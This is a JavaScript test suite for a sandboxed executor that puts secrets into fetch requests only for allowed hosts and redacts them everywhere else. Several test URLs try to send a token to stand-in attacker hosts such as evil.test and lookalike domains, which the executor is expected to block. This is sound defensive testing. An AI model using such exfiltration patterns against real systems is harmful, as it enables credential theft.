'use strict';
// Secrets for fetch (lib/executor/secrets.js, issue 39): `{{secret:NAME}}` in a request's query,
// headers or body is replaced by the host only for a host allowed for NAME, refused for any
// other, and the value is never visible to the program: whatever echoes it back is redacted
// before the program, its logs, its result or its errors see it.
const test = require('node:test');
const assert = require('node:assert/strict');
const http = require('node:http');
const { IsolateExecutor } = require('../helpers.js');

const TOKEN = 'ghp_S3cr3tV4lue_for_tests_0123456789';
const OTHER = 'k-other/value+with&chars';

// A handler that answers with everything it was sent, and puts the Authorization header back
// in a response header, the status text and the URL (an echoing server).
async function echo(request) {
  const headers = Object.fromEntries(request.headers);
  const body = await request.text();
  return new Response(JSON.stringify({ url: request.url, headers, body, redirect: request.redirect }), {
    status: 200,
    statusText: `ok ${headers.authorization || ''}`,
    headers: { 'x-echo': headers.authorization || 'none', 'content-type': 'application/json' },
  });
}

// What the WILD secret's value function was asked for.
const resolved = [];
const ex = new IsolateExecutor({
  workers: 1,
  timeout: 10_000,
  globalOutbound: echo,
  secrets: {
    GITHUB: { value: TOKEN, hosts: ['api.github.com'] },
    WILD: { value: async ({ name, host }) => { resolved.push(`${name}@${host}`); return OTHER; }, hosts: ['*.example.com'] },
  },
});
test.after(() => ex.dispose());

const seen = [];
const recording = new IsolateExecutor({
  workers: 1,
  timeout: 10_000,
  globalOutbound: async (request) => {
    seen.push({ url: request.url, auth: request.headers.get('authorization'), body: await request.text() });
    return new Response('ok');
  },
  secrets: { GITHUB: { value: TOKEN, hosts: ['api.github.com'] } },
});
test.after(() => recording.dispose());

async function run(executor, code, extra = {}) {
  const logs = [];
  const out = await executor.execute({ code, onLog: (line) => logs.push(line), ...extra });
  const text = JSON.stringify(out);
  assert.ok(!text.includes(TOKEN) && !text.includes(OTHER) && !text.includes(encodeURIComponent(OTHER)), `the value reached the program: ${text}`);
  assert.ok(!JSON.stringify(logs).includes(TOKEN), 'the value reached onLog');
  return out;
}

test('a secret is substituted in the query, headers and body for its host, and only there', async () => {
  seen.length = 0;
  const out = await run(recording, `async () => {
    const u = new URL("https://api.github.com/user");
    u.searchParams.set("access_token", "{{secret:GITHUB}}");
    const r = await fetch(u.href + "&raw={{secret:GITHUB}}", {
      method: "POST",
      headers: { authorization: "Bearer {{secret:GITHUB}}" },
      body: JSON.stringify({ token: "{{secret:GITHUB}}" }),
    });
    return r.status;
  }`);
  assert.equal(out.error, undefined, out.error);
  assert.equal(out.result, 200);
  assert.equal(seen.length, 1);
  const url = new URL(seen[0].url);
  assert.equal(url.searchParams.get('access_token'), TOKEN);
  assert.equal(url.searchParams.get('raw'), TOKEN);
  assert.equal(seen[0].auth, `Bearer ${TOKEN}`);
  assert.deepEqual(JSON.parse(seen[0].body), { token: TOKEN });
});

test('a secret is refused for another host, a host that merely contains the allowed name, and outside the query', async () => {
  seen.length = 0;
  const urls = [
    'https://evil.test/?t={{secret:GITHUB}}',
    'https://api.github.com.evil.test/?t={{secret:GITHUB}}',
    'https://evilapi.github.com/?t={{secret:GITHUB}}',
    'https://github.com/?t={{secret:GITHUB}}',
    'https://api.github.com./?t={{secret:GITHUB}}',
    'http://api.github.com/?t={{secret:GITHUB}}',
    'https://api.github.com/{{secret:GITHUB}}',
    'https://api.github.com/?t={{secret:NOPE}}',
  ];
  const out = await run(recording, `async () => {
    const out = [];
    for (const url of ${JSON.stringify(urls)}) {
      try { await fetch(url, { headers: { authorization: "{{secret:GITHUB}}" } }); out.push("sent"); } catch (e) { out.push(e.name + ": " + e.message); }
    }
    return out;
  }`);
  assert.equal(out.error, undefined, out.error);
  assert.equal(seen.length, 0, `a request reached the handler: ${JSON.stringify(seen)}`);
  const messages = out.result;
  assert.match(messages[0], /^TypeError: The secret GITHUB may not be sent to evil\.test/);
  assert.match(messages[1], /The secret GITHUB may not be sent to api\.github\.com\.evil\.test/);
  assert.match(messages[2], /The secret GITHUB may not be sent to evilapi\.github\.com/);
  assert.match(messages[3], /The secret GITHUB may not be sent to github\.com/);
  assert.match(messages[4], /The secret GITHUB may not be sent to api\.github\.com\./);
  assert.match(messages[5], /only over https/);
  assert.match(messages[6], /only in a URL's query, headers or body/);
  assert.match(messages[7], /the secret NOPE, which this run does not have/);
});

test('a *. host pattern allows subdomains on a label boundary only', async () => {
  resolved.length = 0;
  const out = await run(ex, `async () => {
    const out = [];
    for (const host of ["a.example.com", "a.b.example.com", "example.com", "badexample.com", "a.example.com.evil.test"]) {
      try { const r = await fetch("https://" + host + "/?k={{secret:WILD}}"); out.push((await r.json()).url.includes("{{secret:WILD}}") ? "redacted" : "visible"); } catch (e) { out.push(e.message); }
    }
    return out;
  }`);
  assert.equal(out.error, undefined, out.error);
  assert.deepEqual(out.result.slice(0, 2), ['redacted', 'redacted']);
  assert.match(out.result[2], /The secret WILD may not be sent to example\.com \(allowed hosts: \*\.example\.com\)/);
  assert.match(out.result[3], /may not be sent to badexample\.com/);
  assert.match(out.result[4], /may not be sent to a\.example\.com\.evil\.test/);
  // The value function was called per request, for the allowed hosts only.
  assert.deepEqual(resolved, ['WILD@a.example.com', 'WILD@a.b.example.com']);
});

test('the value never reaches the program: echoed bodies, headers, status text, URL, Request objects, errors and tool replies are redacted', async () => {
  const out = await run(ex, `async () => {
    const req = new Request("https://api.github.com/x?q={{secret:GITHUB}}", { method: "POST", headers: { authorization: "{{secret:GITHUB}}" }, body: "b={{secret:GITHUB}}" });
    // fetch() uses the request's body (Fetch standard): a copy is read afterwards.
    const copy = req.clone();
    const r = await fetch(req);
    const echoed = await r.clone().json();
    const text = await r.text();
    console.log("echo", text, [...r.headers.entries()], r.statusText, r.url);
    const w = await fetch("https://x.example.com/?k={{secret:WILD}}", { headers: { authorization: "{{secret:WILD}}" } });
    const wildText = await w.text();
    console.log("wild", wildText, [...w.headers]);
    const reqView = [req.url, [...req.headers.entries()], await copy.text()];
    const tool = await tools.leak();
    return { echoed, text, headers: [...r.headers.entries()], statusText: r.statusText, url: r.url, wildText, reqView, tool };
  }`, {
    providers: [{ name: 'tools', tools: ['leak'] }],
    dispatch: async () => JSON.stringify({ result: { note: `the host said ${TOKEN}`, [TOKEN]: 1, n: 7 } }),
  });
  assert.equal(out.error, undefined, out.error);
  const r = out.result;
  assert.equal(r.echoed.headers.authorization, '{{secret:GITHUB}}');
  assert.equal(new URL(r.echoed.url).searchParams.get('q'), '{{secret:GITHUB}}');
  assert.equal(r.echoed.body, 'b={{secret:GITHUB}}');
  assert.equal(r.echoed.redirect, 'manual');
  assert.equal(r.statusText, 'ok {{secret:GITHUB}}');
  assert.ok(r.headers.some(([k, v]) => k === 'x-echo' && v === '{{secret:GITHUB}}'));
  assert.ok(r.wildText.includes('{{secret:WILD}}'));
  assert.equal(r.reqView[1][0][1], '{{secret:GITHUB}}');
  assert.deepEqual(r.tool, { note: 'the host said {{secret:GITHUB}}', '{{secret:GITHUB}}': 1, n: 7 });
  assert.ok(out.logs.some((line) => line.includes('{{secret:GITHUB}}')));
});

test('an error thrown by the handler or a value function is redacted and names no value', async () => {
  const executor = new IsolateExecutor({
    workers: 1,
    globalOutbound: (request) => { throw new Error(`upstream refused ${request.headers.get('authorization')}`); },
    secrets: {
      GITHUB: { value: TOKEN, hosts: ['api.github.com'] },
      BROKEN: { value: () => { throw new Error('vault down'); }, hosts: ['api.github.com'] },
    },
  });
  try {
    const out = await run(executor, `async () => {
      const out = [];
      for (const name of ["GITHUB", "BROKEN"]) {
        try { await fetch("https://api.github.com/", { headers: { authorization: "{{secret:" + name + "}}" } }); } catch (e) { out.push(e.message); }
      }
      throw new Error(out.join(" | "));
    }`);
    assert.match(out.error, /upstream refused \{\{secret:GITHUB\}\} \| The secret BROKEN could not be resolved: vault down/);
  } finally {
    await executor.dispose();
  }
});

test('a redirect is handed back to the program, not followed with the secret, and its next hop is checked again', async () => {
  // Two real servers: 127.0.0.1 answers 307 to the other, at localhost.
  const received = [];
  const target = http.createServer((req, res) => { received.push(req.headers.authorization || ''); res.end('target'); });
  await new Promise((resolve) => target.listen(0, 'localhost', resolve));
  const origin = http.createServer((req, res) => {
    res.writeHead(307, { location: `http://localhost:${target.address().port}/landing` });
    res.end();
  });
  await new Promise((resolve) => origin.listen(0, '127.0.0.1', resolve));
  const executor = new IsolateExecutor({
    workers: 1,
    globalOutbound: (request) => fetch(request),
    secrets: { LOCAL: { value: TOKEN, hosts: ['127.0.0.1'] } },
  });
  try {
    const out = await run(executor, `async () => {
      const r = await fetch("http://127.0.0.1:${origin.address().port}/start", { headers: { authorization: "{{secret:LOCAL}}" } });
      const location = r.headers.get("location");
      let next;
      try { await fetch(location, { headers: { authorization: "{{secret:LOCAL}}" } }); next = "sent"; } catch (e) { next = e.message; }
      return { status: r.status, location, next };
    }`);
    assert.equal(out.error, undefined, out.error);
    assert.equal(out.result.status, 307);
    assert.match(out.result.next, /The secret LOCAL may not be sent to localhost/);
    assert.deepEqual(received, [], 'the redirect target received a request');
  } finally {
    await executor.dispose();
    target.close();
    origin.close();
  }
});

test('a handler that follows a redirect to another host itself is reported, its response withheld', async () => {
  const executor = new IsolateExecutor({
    workers: 1,
    globalOutbound: () => {
      const response = new Response(`landed with ${TOKEN}`);
      Object.defineProperty(response, 'url', { value: 'https://elsewhere.test/landing' });
      return response;
    },
    secrets: { GITHUB: { value: TOKEN, hosts: ['api.github.com'] } },
  });
  try {
    const out = await run(executor, 'async () => { try { return await (await fetch("https://api.github.com/", { headers: { authorization: "{{secret:GITHUB}}" } })).text(); } catch (e) { return e.message; } }');
    assert.match(out.result, /may not be sent to elsewhere\.test: the outbound handler followed a redirect there/);
  } finally {
    await executor.dispose();
  }
});

test('per-execution secrets in both forms; bad secrets options are refused', async () => {
  const plain = new IsolateExecutor({ workers: 1, globalOutbound: echo });
  try {
    const native = await run(plain, 'async () => (await (await fetch("https://api.test/", { headers: { authorization: "{{secret:RUN}}" } })).json()).headers.authorization', {
      secrets: { RUN: { value: TOKEN, hosts: ['api.test'] } },
    });
    assert.equal(native.result, '{{secret:RUN}}');
    const cf = await plain.execute('async () => (await (await fetch("https://api.test/", { headers: { authorization: "{{secret:RUN}}" } })).json()).headers.authorization', [], {
      secrets: { RUN: { value: TOKEN, hosts: ['api.test'] } },
    });
    assert.equal(cf.error, undefined, cf.error);
    assert.equal(cf.result, '{{secret:RUN}}');
    const none = await plain.execute({ code: 'async () => { try { await fetch("https://api.test/?k={{secret:RUN}}"); } catch (e) { return e.message; } }' });
    assert.match(none.result, /the secret RUN, which this run does not have/);
    for (const [secrets, pattern] of [
      [{ 'bad-name': { value: 'x', hosts: ['a.test'] } }, /not a secret name/],
      [{ A: { value: 'x', hosts: ['https://a.test'] } }, /is not a host name/],
      [{ A: { value: 'x', hosts: ['a.*.test'] } }, /is not a host name/],
      [{ A: { value: 'x', hosts: [] } }, /non-empty array/],
      [{ A: { value: 42, hosts: ['a.test'] } }, /non-empty string or a function/],
      [{ A: { value: 'x', hosts: ['a.test'], host: 'b' } }, /has no option host/],
    ]) {
      await assert.rejects(plain.execute({ code: '1', secrets }), (e) => e.code === 'ERR_INVALID_ARGUMENT' && pattern.test(e.message));
      assert.throws(() => new IsolateExecutor({ secrets }), (e) => e.code === 'ERR_INVALID_ARGUMENT' && pattern.test(e.message));
    }
  } finally {
    await plain.dispose();
  }
});
